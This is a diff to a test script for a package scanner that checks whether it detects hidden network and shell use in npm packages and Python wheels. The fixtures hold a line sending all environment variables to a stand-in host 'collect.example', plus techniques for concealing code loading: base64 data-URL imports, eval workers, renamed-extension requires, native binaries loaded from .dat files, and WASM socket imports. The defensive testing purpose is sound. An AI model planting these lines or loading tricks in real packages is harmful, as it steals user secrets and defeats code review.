@@ -9,11 +9,35 @@ import subprocess
 import sys
 import tarfile
 import tempfile
+from base64 import b64encode
 from pathlib import Path
+from urllib.parse import quote
+
+from test_native import elf, wheel as native_wheel
 
 passed = failed = 0
 POST = 'require("https").get("https://collect.example/?" + JSON.stringify(process.env));\n'
+ESM = 'import h from "https"; h.get("https://collect.example/?" + JSON.stringify(process.env));'
 MAIN = {"main": "index.js"}
+
+
+def field(*parts):
+    data = b"".join(parts)
+    return bytes([len(data)]) + data
+
+
+def word(text):
+    return field(text.encode())
+
+
+# a module that takes one function from its host and calls nothing
+WASM = b"\0asm\1\0\0\0" + b"\1" + field(b"\1\x60\0\0") + b"\2" + field(b"\1", word("wasi_snapshot_preview1"), word("sock_send"), b"\0\0")
+
+
+def report(program, tmp, path):
+    env = {"PATH": os.environ["PATH"], "HOME": str(tmp)}
+    r = subprocess.run([program, "scan", "--no-cache", "--format", "jsonl", str(path)], capture_output=True, timeout=300, env=env)
+    return json.loads(r.stdout)
 
 
 def scan(program, tmp, manifest, files):
@@ -25,9 +49,7 @@ def scan(program, tmp, manifest, files):
             info = tarfile.TarInfo("package/" + name)
             info.size = len(data)
             t.addfile(info, io.BytesIO(data))
-    env = {"PATH": os.environ["PATH"], "HOME": str(tmp)}
-    r = subprocess.run([program, "scan", "--no-cache", "--format", "jsonl", str(path)], capture_output=True, timeout=300, env=env)
-    return json.loads(r.stdout)
+    return report(program, tmp, path)
 
 
 def uses(d):
@@ -51,7 +73,26 @@ SEEN = [
     ("late code that loads more of it", MAIN, {"index.js": 'require("./a.txt");\n', "a.txt": 'require("./b.dat");\n', "b.dat": POST}, ("net.http", "import")),
     ("imports of the manifest", {**MAIN, "imports": {"#z": "./lib/u.js"}}, {"index.js": 'require("#z");\n', "lib/u.js": POST}, ("net.http", "import")),
     ("imports by condition and star", {**MAIN, "imports": {"#lib/*": {"node": "./lib/*.js", "default": "./x.js"}}}, {"index.js": 'require("#lib/u").go();\n', "lib/u.js": "exports.go = () => {" + POST + "};\n"}, ("net.http", "import")),
+    ("a path put together", MAIN, {"index.js": 'const p = require("path");\nrequire(p.join(__dirname, "lib", "w"));\n', "lib/w.js": POST}, ("net.http", "import")),
+    ("a path put together that names no code", MAIN, {"index.js": "require(`${__dirname}/lib/w.txt`);\n", "lib/w.txt": POST}, ("net.http", "import")),
+    ("Module._load", MAIN, {"index.js": 'require("module")._load(require("path").join(__dirname, "lib/w.dat"));\n', "lib/w.dat": POST}, ("net.http", "import")),
+    ("createRequire", MAIN, {"index.js": 'import {createRequire} from "module";\nconst get = createRequire(import.meta.url);\nget("./w.dat");\n', "w.dat": POST}, ("net.http", "import")),
+    ("an extension of its own", MAIN, {"index.js": 'require.extensions[".dat"] = require.extensions[".js"];\nrequire("./w.dat");\n', "w.dat": POST}, ("net.http", "import")),
+    ("a worker called .txt", MAIN, {"index.js": 'const {Worker} = require("worker_threads");\nnew Worker(require("path").join(__dirname, "lib/w.txt"));\n', "lib/w.txt": POST}, ("net.http", "import")),
+    ("import of an address", MAIN, {"index.js": f'import("data:text/javascript,{quote(ESM)}");\n'}, ("net.http", "import")),
+    ("import of an address in base64", MAIN, {"index.js": f'import("data:text/javascript;base64,{b64encode(ESM.encode()).decode()}");\n'}, ("net.http", "import")),
+    ("an address imported before all", {"main": "index.mjs"}, {"index.mjs": f"import 'data:text/javascript,{quote(ESM)}';\n"}, ("net.http", "import")),
+    ("a worker of text", MAIN, {"index.js": f'const {{Worker}} = require("worker_threads");\nnew Worker({json.dumps(POST)}, {{eval: true}});\n'}, ("net.http", "import")),
+    ("a worker of an address", MAIN, {"index.js": f'const {{Worker}} = require("worker_threads");\nnew Worker(new URL("data:text/javascript,{quote(POST)}"));\n'}, ("net.http", "import")),
+    ("process.dlopen", MAIN, {"index.js": 'process.dlopen(module, require("path").join(__dirname, "a.dat"));\n', "a.dat": elf(["system"])}, ("exec.shell", "import")),
+    ("WebAssembly.instantiate", MAIN, {"index.js": 'const fs = require("fs");\nWebAssembly.instantiate(fs.readFileSync(require("path").join(__dirname, "a.wasm")), {});\n', "a.wasm": WASM}, ("net.socket", "import")),
+    ("WebAssembly.Module", MAIN, {"index.js": 'const fs = require("fs");\nconst b = fs.readFileSync(__dirname + "/a.bin");\nnew WebAssembly.Instance(new WebAssembly.Module(b), {});\n', "a.bin": WASM}, ("net.socket", "import")),
 ]
+
+
+def native():
+    name, data = native_wheel({"thing/__init__.py": 'import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), "data", "blob.dat"))\n', "thing/data/blob.dat": elf(["system"])})
+    return name, data
 
 
 def main():
@@ -62,7 +103,11 @@ def main():
         tmp = Path(folder)
         for what, manifest, files, use in SEEN:
             d = scan(program, tmp, manifest, files)
-            check(use in uses(d) and d["complete"], what, d)
+            check(use in uses(d) and all(g["reason"] == "native" for g in d["coverage"]["gaps"]), what, d)
+        name, data = native()
+        (tmp / name).write_bytes(data)
+        d = report(program, tmp, tmp / name)
+        check(("exec.shell", "import") in uses(d), "ctypes.CDLL of a file called .dat", d)
         d = scan(program, tmp, MAIN, {"index.js": 'require("./a.css");\n', "a.css": "body { color: red }\n.a .b { x: y; }\n"})
         check(d["verdict"] == "unreviewable" and d["coverage"]["gaps"], "what does not read as code stays a gap", d)
         d = scan(program, tmp, MAIN, {"index.js": "exports.x = 1;\n", "w.txt": POST})
